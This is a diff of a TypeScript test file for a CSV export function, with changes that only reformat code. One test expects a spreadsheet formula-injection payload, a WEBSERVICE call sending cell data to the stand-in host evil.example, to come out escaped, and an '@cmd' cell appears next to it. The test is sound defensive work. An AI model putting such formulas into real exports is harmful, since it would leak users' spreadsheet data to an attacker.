@@ -47,7 +47,9 @@ describe('toCsv()', () => {
   });
 
   it('writes no cell that starts a formula, while the JSON record keeps the text as written', () => {
-    const [, row] = toCsv([record]).replace(/^\uFEFF/, '').split('\r\n');
+    const [, row] = toCsv([record])
+      .replace(/^\uFEFF/, '')
+      .split('\r\n');
     const cells = Object.fromEntries(csvColumns.map((c, i) => [c, row!.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)![i]!.replace(/,$/, '')]));
     expect(cells.title).toBe(`"'=WEBSERVICE(""https://evil.example/""&A1)"`);
     expect(cells.description).toBe("'@cmd a description that starts with an at sign");
@@ -73,7 +75,11 @@ describe('opportunityRecordsFrom()', () => {
         exchangeRate: { vndPerUsd: 25_000, date: new Date('2026-01-02') },
         sources: source,
       }),
-      languageFile('opportunities', 'tea-factory/en', { title: 'Tea factory', description: 'A factory processing Shan tuyết tea.', incentives: ['Land rent exemption'] }),
+      languageFile('opportunities', 'tea-factory/en', {
+        title: 'Tea factory',
+        description: 'A factory processing Shan tuyết tea.',
+        incentives: ['Land rent exemption'],
+      }),
     ],
     { now: new Date('2026-12-07'), showUnpublished: false },
   );
